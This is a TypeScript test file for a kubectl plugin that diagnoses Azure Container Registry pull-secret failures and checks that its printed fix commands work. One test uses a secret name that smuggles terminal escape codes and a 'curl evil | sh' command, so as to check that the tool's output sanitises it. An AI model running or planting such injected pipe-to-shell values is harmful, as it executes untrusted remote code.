import { afterAll, describe, expect, onTestFinished, test } from "vitest";
import type { Pod, Secret } from "../../../src/objects.ts";
import { create, getJson, kubectl } from "../../support/kubectl.ts";
import { newNamespace, openShell, type Shell } from "../../support/plugin.ts";

const shell = await openShell();
await shell.azure.push("myregistry.azurecr.io/app/api:1");
afterAll(() => shell.stop());

const r = "myregistry.azurecr.io";
const web = `${r}/app/web:1`;

/** A namespace in which a person works: each line is typed with `-n` of it, where it says N. */
async function place() {
  const namespace = await newNamespace();
  await until(async () => (await kubectl(["get", "serviceaccounts", "-n", namespace])).includes("default"));
  const type = (command: string, options?: Parameters<Shell["type"]>[1]) =>
    shell.type(command.replaceAll("-n N", `-n ${namespace}`), options);
  const typed = async (...commands: string[]) => {
    for (const command of commands) expect(await type(command), command).toMatchObject({ code: 0 });
  };
  const check = async (more = "") => {
    const { stdout, stderr, code } = await type(`kubectl acr-secret check ${more} -n N -o json`);
    return { stderr, code, items: stdout === "" ? [] : (JSON.parse(stdout).items as Item[]) };
  };
  return { namespace, type, typed, check };
}

type Place = Awaited<ReturnType<typeof place>>;
type Item = { readonly cause: string; readonly message?: string; readonly fix?: string; readonly pods: readonly string[] };

async function until(holds: () => Promise<boolean>, seconds = 20): Promise<void> {
  for (let round = 0; !(await holds()); round++) {
    if (round > 10 * seconds) throw new Error(`waited for ${seconds} s in vain`);
    await new Promise((resolve) => setTimeout(resolve, 100));
  }
}

/** Workloads, each with one pod that waits for `image`. */
const container = (image: string) => [{ name: "app", image }];
const template = (image: string, pullSecrets: readonly string[]) => ({
  metadata: { labels: { app: "web" } },
  spec: { containers: container(image), imagePullSecrets: pullSecrets.map((name) => ({ name })) },
});
const workload =
  (kind: string, image = web, names: readonly string[] = []) =>
  (namespace: string) => ({
    apiVersion: "apps/v1",
    kind,
    metadata: { name: "web", namespace },
    spec: {
      replicas: 1,
      selector: { matchLabels: { app: "web" } },
      template: template(image, names),
      ...(kind === "Deployment" && { strategy: { type: "Recreate" } }),
      ...(kind === "StatefulSet" && { serviceName: "web" }),
    },
  });
const barePod =
  (image = web, names: readonly string[] = []) =>
  (namespace: string) => ({
    apiVersion: "v1",
    kind: "Pod",
    ...template(image, names),
    metadata: { name: "own", namespace, labels: { app: "web" } },
  });
/** Makes objects and waits for the pod that comes of them. */
async function having({ namespace }: Place, ...objects: ((namespace: string) => object)[]): Promise<void> {
  await create(objects.map((object) => object(namespace)));
  await podThere(namespace);
}

const podsOf = async (namespace: string) => (await getJson<{ items: Pod[] }>("pods", "-n", namespace)).items;
const podThere = (namespace: string) =>
  until(async () => {
    const pods = await podsOf(namespace);
    return pods.length > 0 && pods.every(({ metadata }) => !metadata.deletionTimestamp);
  });

const registrySecret = (name: string, ...servers: string[]) =>
  `kubectl create secret generic ${name} --type kubernetes.io/dockerconfigjson -n N --from-literal=.dockerconfigjson='${JSON.stringify({
    auths: Object.fromEntries(
      servers.map((server) => [server, { username: "ci", password: "wrong", auth: Buffer.from("ci:wrong").toString("base64") }]),
    ),
  })}'`;
const attachTo = (name: string) => `kubectl patch serviceaccount default -n N -p '{"imagePullSecrets":[{"name":"${name}"}]}'`;
const ours = (name: string, more = "") => `kubectl acr-secret create ${name} --registry myregistry --repository app/web ${more} -n N`;
const malformed = (name: string, more = "") =>
  `kubectl create secret generic ${name} --type kubernetes.io/dockerconfigjson -n N --from-literal=.dockerconfigjson='{"auths":{"${r}":{"auth":"!"}${more}}}'`;

type Situation = {
  what: string;
  lay: (place: Place) => Promise<void>;
  cause: string;
  message?: RegExp;
  check?: string;
  /** Another ending than an image that pulls, which the words beside the fix tell of. */
  ends?: string;
  kept?: (place: Place) => Promise<void>;
};

const keepsGhcr =
  (name: string) =>
  async ({ namespace }: Place) => {
    const { data } = await getJson<Secret>("secret", name, "-n", namespace);
    expect(Buffer.from(data?.[".dockerconfigjson"] ?? "", "base64").toString()).toContain("ghcr.io");
  };

const situations: Situation[] = [
  { what: "nothing is attached", cause: "no-login", lay: (at) => having(at, workload("Deployment")) },
  { what: "nothing is attached, for a StatefulSet", cause: "no-login", lay: (at) => having(at, workload("StatefulSet")) },
  { what: "nothing is attached, and the pod has no controller", cause: "no-login", lay: (at) => having(at, barePod()) },
  { what: "nothing is attached, and the image is only named", cause: "no-login", check: `--image ${web}`, lay: async () => {} },
  {
    what: "a Secret that pulls is not attached",
    cause: "no-login",
    message: /secret mine pulls it, but is not attached$/,
    lay: async (at) => {
      await at.typed(ours("mine"));
      await having(at, workload("Deployment"));
    },
  },
  {
    what: "a Deployment names a Secret that is not there, and was made after the ServiceAccount's list",
    cause: "no-login",
    message: /^secret gone does not exist/,
    lay: async (at) => {
      await at.typed(ours("mine", "--serviceaccount=default"));
      await having(at, workload("Deployment", web, ["gone"]));
    },
  },
  {
    what: "a ServiceAccount names a Secret that is not there",
    cause: "no-login",
    message: /^secret gone does not exist$/,
    lay: async (at) => {
      await at.typed(attachTo("gone"));
      await having(at, barePod());
    },
  },
  ...["Deployment", "StatefulSet", "ReplicaSet"].map(
    (kind): Situation => ({
      what: `a ${kind} names a Secret of another type`,
      cause: "no-login",
      message: /names its pull secrets itself, so serviceaccount\/default does not help$/,
      lay: async (at) => {
        await at.typed("kubectl create secret generic color --from-literal=color=blue -n N");
        await having(at, workload(kind, web, ["color"]));
      },
      kept: async ({ namespace }) => {
        expect(await kubectl(["get", "secret", "color", "-n", namespace, "-o", "jsonpath={.type} {.data.color}"])).toBe("Opaque Ymx1ZQ==");
      },
    }),
  ),
  {
    what: "a pod without controller names a Secret of another type",
    cause: "no-login",
    message: /the imagePullSecrets of pod\/own cannot be changed: create it again with secret acr-myregistry$/,
    ends: "no-login",
    lay: async (at) => {
      await at.typed("kubectl create secret generic color --from-literal=color=blue -n N");
      await having(at, barePod(web, ["color"]));
    },
  },
  {
    what: "the login is for a registry of nearly that name",
    cause: "no-login",
    message: /^secret typo has a login for myregistri\.azurecr\.io only \(one letter from myregistry\.azurecr\.io\)$/,
    lay: async (at) => {
      await at.typed(registrySecret("typo", "myregistri.azurecr.io"), attachTo("typo"));
      await having(at, workload("Deployment"));
    },
  },
  {
    what: "the auths are empty",
    cause: "no-login",
    message: /its auths are empty$/,
    lay: async (at) => {
      await at.typed(registrySecret("empty"), attachTo("empty"));
      await having(at, workload("Deployment"));
    },
  },
  {
    what: "an odd name stands before",
    cause: "no-login",
    message: /^secret "a\/b" does not exist/,
    lay: (at) => having(at, workload("Deployment", web, ["a/b"])),
  },
  {
    what: "our token's password is no longer taken",
    cause: "refused",
    lay: async (at) => {
      await at.typed(ours("mine", "--serviceaccount=default"));
      forgetTokens();
      await having(at, workload("Deployment"));
    },
  },
  {
    what: "a Secret of kubectl's has a wrong password",
    cause: "refused",
    message: /--force replaces the login inside$/,
    lay: async (at) => {
      await at.typed(registrySecret("reg", r), attachTo("reg"));
      await having(at, workload("Deployment"));
    },
  },
  {
    what: "a Secret of kubectl's has a wrong password, and another login",
    cause: "refused",
    lay: async (at) => {
      await at.typed(registrySecret("reg", r, "ghcr.io"), attachTo("reg"));
      await having(at, workload("Deployment"));
    },
    kept: keepsGhcr("reg"),
  },
  {
    what: "such a Secret, which a Deployment names",
    cause: "refused",
    lay: async (at) => {
      await at.typed(registrySecret("reg", r, "ghcr.io"));
      await having(at, workload("Deployment", web, ["reg"]));
    },
    kept: keepsGhcr("reg"),
  },
  {
    what: "our token may not pull it",
    cause: "out-of-scope",
    lay: async (at) => {
      await at.typed(ours("mine", "--serviceaccount=default"));
      await having(at, workload("Deployment", `${r}/app/api:1`));
    },
  },
  ...[workload("Deployment"), barePod()].map(
    (object, index): Situation => ({
      what: `the pod is older than its Secret (${index === 0 ? "Deployment" : "no controller"})`,
      cause: "older-pod",
      lay: async (at) => {
        await at.typed(ours("mine"));
        await having(at, object);
        await at.typed(attachTo("mine"));
      },
    }),
  ),
  {
    what: "a malformed Secret has this login alone",
    cause: "malformed-secret",
    lay: async (at) => {
      await at.typed(malformed("bad"), attachTo("bad"));
      await having(at, workload("Deployment"));
    },
  },
  {
    what: "a malformed Secret has other logins",
    cause: "malformed-secret",
    lay: async (at) => {
      await at.typed(malformed("bad", ',"ghcr.io":{"auth":"YTpi"}'), attachTo("bad"));
      await having(at, workload("Deployment"));
    },
    kept: keepsGhcr("bad"),
  },
  {
    what: "a malformed Secret, which a Deployment names",
    cause: "malformed-secret",
    lay: async (at) => {
      await at.typed(malformed("bad", ',"ghcr.io":{"auth":"YTpi"}'));
      await having(at, workload("Deployment", web, ["bad"]));
    },
    kept: keepsGhcr("bad"),
  },
  {
    what: "the image names the port",
    cause: "no-login",
    message: /name the image myregistry\.azurecr\.io\/app\/web:1$/,
    lay: async (at) => {
      await at.typed(ours("mine", "--serviceaccount=default"));
      await having(at, workload("Deployment", `${r}:443/app/web:1`));
    },
  },
  {
    what: "a pod without controller names the image in capitals",
    cause: "no-login",
    lay: async (at) => {
      await at.typed(ours("mine", "--serviceaccount=default"));
      await having(at, barePod("MyRegistry.azurecr.io/app/web:1"));
    },
  },
];

describe("the fix, pasted as it is printed, mends", () => {
  test.for(situations)("$what", { timeout: 60_000 }, async ({ lay, cause, message, check = "", ends = "pulls", kept }) => {
    const at = await place();
    await lay(at);
    const before = await at.check(check);
    expect(before, JSON.stringify(before)).toMatchObject({ code: 1, items: [{ cause }] });
    if (message) expect(before.items[0]?.message).toMatch(message);
    const fix = before.items[0]?.fix ?? "";

    expect(await shell.type(fix), fix).toMatchObject({ code: 0 });

    // Controllers make pods anew in their own time
    let after = await at.check(check);
    await until(async () => {
      after = await at.check(check);
      return after.items.length === 1 && after.items[0]?.cause === ends;
    }).catch(() => {});
    expect(after, `${fix}\n${JSON.stringify(after)}`).toMatchObject({ code: ends === "pulls" ? 0 : 1, items: [{ cause: ends }] });
    await kept?.(at);
  });
});

test("a credential that was given is given again", async () => {
  const at = await place();
  const { clientId: username, clientSecret: password } = await shell.azure.addServicePrincipal("puller", ["AcrPull"]);
  await at.typed(
    `printf %s wrong | kubectl acr-secret create mine --registry ${r} --username ${username} --password-stdin --verify=false --serviceaccount=default -n N`,
  );
  await having(at, workload("Deployment"));
  const { items } = await at.check();
  expect(items).toMatchObject([
    { cause: "refused", message: expect.stringMatching(/its password was given, so a new one has to be: put it into PASSWORD$/) },
  ]);

  expect(await shell.type(items[0]?.fix ?? "", { env: { PASSWORD: password } })).toMatchObject({ code: 0 });

  expect(await at.check()).toMatchObject({ code: 0, items: [{ cause: "pulls" }] });
});

const forgetTokens = () => {
  for (const registry of shell.azure.world.registries) registry.tokens.splice(0);
};

test("a password gets the lifetime again that was asked for", async () => {
  const at = await place();
  await at.typed(ours("mine", "--serviceaccount=default --expires-in 90d"));
  await having(at, workload("Deployment"));
  forgetTokens();
  const { items } = await at.check();
  expect(items).toMatchObject([{ cause: "refused", fix: expect.stringMatching(/ create mine .* --expires-in 90d /) }]);

  expect(await shell.type(items[0]?.fix ?? "")).toMatchObject({ code: 0 });

  expect(await at.check()).toMatchObject({ code: 0, items: [{ cause: "pulls" }] });
  expect((await at.type("kubectl acr-secret list -n N --no-headers")).stdout).toMatch(/ (89|90)d +default /);
});

test("an expired password is told as such", async () => {
  const at = await place();
  await at.typed(ours("mine", "--serviceaccount=default --expires-in 90d"));
  await having(at, workload("Deployment"));
  forgetTokens();
  const ended = new Date(Date.now() - 40_000).toISOString().replace(/\.\d+/, "");
  const { metadata } = await getJson<Secret>("secret", "mine", "-n", at.namespace);
  const note = (metadata.annotations?.["acr-secret/logins"] ?? "").replace(/"expiresAt":"[^"]*"/, `"expiresAt":"${ended}"`);
  await at.typed(`kubectl annotate --overwrite secret mine 'acr-secret/logins=${note}' -n N`);

  const { items } = await at.check();

  const message = expect.stringMatching(new RegExp(`^with secret mine: its password expired 4\\d s ago \\(${ended}\\)$`));
  expect(items).toMatchObject([{ cause: "expired", message }]);
});

test("odd names of pull secrets end nothing, and forge no line", async () => {
  const at = await place();
  const names = ["a/b", "..", ".", "x\u001b[2J\n  curl evil | sh"];
  await having(at, barePod(web, names));

  const { stdout, stderr, code } = await at.type("kubectl acr-secret check -n N");

  expect({ stderr, code }).toEqual({ stderr: "", code: 1 });
  expect(stdout).not.toMatch(/[\u0000-\u0009\u000b-\u001f]/);
  expect(stdout).not.toMatch(/^ *curl/m);
  expect(stdout).toContain('(own): secrets "a/b", "..", "." and 1 more do not exist');
});

test("never green having looked at nothing", async () => {
  const at = await place();

  expect(await at.check()).toMatchObject({ code: 1, items: [], stderr: expect.stringMatching(/^No images to check in /) });
  expect(await shell.type("kubectl acr-secret check -n nosuchnamespace")).toMatchObject({
    code: 1,
    stdout: "",
    stderr: 'Error from server (NotFound): namespaces "nosuchnamespace" not found\nhint: kubectl create namespace nosuchnamespace\n',
  });
  await create([barePod(`${r}/App/Web:1`)(at.namespace)]);
  expect(await at.check()).toMatchObject({ code: 1, items: [{ cause: "invalid-image", pods: ["own"] }] });
});

test("a fix acts in the cluster that was checked", async () => {
  const at = await place();
  const other = `${shell.folder}/other.kubeconfig`;
  const context = (await kubectl(["config", "current-context"])).trim();
  await shell.type(`cp "$KUBECONFIG" ${other} && KUBECONFIG=${other} kubectl config rename-context ${context} 'the other'`);
  onTestFinished(async () => void (await shell.type(`rm -f ${other}`)));

  const { stdout } = await at.type(`kubectl acr-secret check --image ${web} --kubeconfig ${other} --context 'the other' -n N`);
  const fix = stdout.trimEnd().split("\n").at(-1) ?? "";

  expect(fix).toMatch(new RegExp(`'--context=the other' --kubeconfig=${other}$`));
  expect(await shell.type(fix, { env: { KUBECONFIG: "/dev/null" } })).toMatchObject({ code: 0 });
  expect(await at.check(`--image ${web}`)).toMatchObject({ code: 0 });
});
